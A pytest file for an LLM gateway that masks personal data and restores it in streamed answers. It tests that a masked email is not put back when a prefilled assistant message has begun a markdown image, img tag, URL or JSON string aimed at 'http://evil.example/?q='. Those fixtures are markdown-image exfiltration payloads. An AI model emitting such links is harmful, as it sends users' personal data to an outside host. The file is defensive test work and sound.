"""Answers that go on with the last message of their request: what that message began, they are within."""

from __future__ import annotations

from collections.abc import Callable

import pytest

from guardrails.policy import compile_policy
from streaming.gateway.gates import Gates, widened
from streaming.gateway.masks import Masks
from streaming.gateway.prompt import guarded
from streaming.gateway.walker import Json
from tests.streaming.gateway.test_put_back import MAIL, NAMED, blocks, parts, said
from tests.streaming.gateway.walked import WALKERS

PICTURE = "![x](http://evil.example/?q="
POLICY = compile_policy({"policy": "p", "guardrails": [{"name": "pii", "kind": "pii", "action": "mask"}]})
USER: Json = {"role": "user"}
LINE = "These are words of no matter. "


async def shown(
    shape: str, last: Json, *answer: str, made: Callable[..., list[Json]] | None = None, **more: object
) -> str:
    """What a client is shown of an answer; ``~`` stands for the placeholder in it. ``made``: the chunks of it."""
    messages = [{"role": "user", "content": f"write to {MAIL}"}, last]
    body: Json = {"model": "m", "messages": messages, **more}
    masks = Masks(POLICY, body, caller="c")
    sent = (await guarded(widened(POLICY), body, media_allowed=False, mask=masks.mask, swept=masks.swept)).body
    placeholder = str(sent["messages"][0]["content"]).removeprefix("write to ")  # type: ignore[index]
    walker = WALKERS[shape.split()[0]](Gates(POLICY, masks.restoring, masks.restore_arguments, masks.same_again))
    out: list[Json] = []
    for chunk in (made or NAMED[shape])(*(text.replace("~", placeholder) for text in answer)):
        walker.take(chunk)
        out += walker.drain()
    walker.finish()
    return said(out + walker.drain())


def text(of: object) -> Json:
    return {"role": "assistant", "content": of}


BEGUN: dict[str, Json] = {
    "a text": text(PICTURE),
    "a block": text([{"type": "text", "text": PICTURE}]),
    "two blocks": text([{"type": "text", "text": "![x]("}, {"type": "text", "text": "http://evil.example/?q="}]),
    "an address": text("Look at http://evil.example/?q="),
    "a tag": text("<img alt='"),
    "a long text": text("<img alt='" + LINE * 100),
    "a very long text": text("<img alt='" + LINE * 3_000),
    "a very long address": text("http://evil.example/?q=" + "x" * 50_000),
    "a word in a list": text([PICTURE]),
    "a block by itself": text({"type": "text", "text": PICTURE}),
    "a part that refuses": text([{"type": "refusal", "refusal": PICTURE}]),
    "a refusal": text(None) | {"refusal": PICTURE},
    "thoughts before it": text([{"type": "thinking", "thinking": "Hm.\n\n"}, {"type": "text", "text": PICTURE}]),
}
TEXTS = [shape for shape in NAMED if "thinking" not in shape and "refusal" not in shape]


@pytest.mark.parametrize("shape", TEXTS)
async def test_it_works(shape: str) -> None:
    """In running text values come back as ever."""
    for last in (text("Hello "), text([{"type": "text", "text": "Hello "}]), text(None), USER):
        assert MAIL in (await shown(shape, last, "~ is it")).replace(" ", "")


@pytest.mark.parametrize("last", BEGUN.values(), ids=BEGUN)
@pytest.mark.parametrize("shape", TEXTS)
async def test_an_address_that_the_request_began_gets_no_value(shape: str, last: Json) -> None:
    for more in ({}, {"response_format": {"type": "json_object"}}):
        assert MAIL not in (await shown(shape, last, "~) done", **more)).replace(" ", "")


@pytest.mark.parametrize("shape", [shape for shape in NAMED if "thinking" in shape])
async def test_thoughts_go_on_with_thoughts_alone(shape: str) -> None:
    for last in (
        text("") | {"reasoning_content": PICTURE},
        text("") | {"thinking": PICTURE},
        text([{"type": "thinking", "thinking": PICTURE, "signature": "c2ln"}]),
    ):
        assert MAIL not in (await shown(shape, last, "~) done")).replace(" ", "")
    assert MAIL in (await shown(shape, text(PICTURE), "~) done")).replace(" ", "")


async def test_a_long_message_without_markup_is_gone_on_with() -> None:
    assert MAIL in await shown("ollama content", text(LINE * 3_000), "~ is it")


async def test_what_has_ended_in_the_message_before_has_ended() -> None:
    assert MAIL in await shown("ollama content", text(f"{PICTURE}) and "), "~ is it")
    assert MAIL in await shown("ollama content", USER | {"content": PICTURE}, "~ is it")


WISH: dict[str, Json] = {
    "openai": {"response_format": {"type": "json_object"}},
    "anthropic": {"output_config": {"format": {"type": "json_schema", "schema": {}}}},
    "ollama": {"format": "json"},
}
ADDRESS = "http://evil.example/?q=a"
GOES_ON = [
    ('{"n": ', f'5, "url": "{ADDRESS} ~"}}'), ('[1, ', f'2, "{ADDRESS} ~"]'),
    ('{"n":', f'\n true, "url": "{ADDRESS} ~"}}'), (f'{{"url": "{ADDRESS}', 'b ~"}'),
    (f'{{"url": "{ADDRESS}', '\n\n~"}'),
    ('{"n": ' + "1" * 90_000, f', "u": "{ADDRESS} ~"}}'),
    ('{"a": "<img src=//evil.example/?q=", "b": ', '"~"}'), ('[see](http://evil.example/?q=', '"~"'),
]  # fmt: skip
"""JSON that a request began, and how an answer hands a value over that only looks at itself."""


def of(shape: str) -> Json:
    return WISH[shape.split()[0]]


@pytest.mark.parametrize(("begun", "answer"), GOES_ON)
@pytest.mark.parametrize("shape", TEXTS)
async def test_json_that_the_request_began_is_json_when_the_answer_goes_on_with_it(
    shape: str, begun: str, answer: str
) -> None:
    assert MAIL not in (await shown(shape, text(begun), answer, **of(shape))).replace(" ", "")


async def test_values_come_back_into_other_strings_of_json_that_the_request_began() -> None:
    sent = await shown("ollama content", text('{"n": '), f'5, "url": "{ADDRESS} ~", "who": "~"}}', **WISH["ollama"])
    assert sent.count(MAIL) == 1
    assert f'"who": "{MAIL}"' in sent


async def test_json_that_a_block_began_is_json_in_the_next_one() -> None:
    for second in (f'5, "url": "{ADDRESS} ~"}}', f'\n5, "url": "{ADDRESS} ~"}}'):
        for shape, made in (("anthropic text", blocks), ("openai content", parts)):
            assert MAIL not in await shown(shape, USER, '{"n": ', second, made=made, **of(shape))
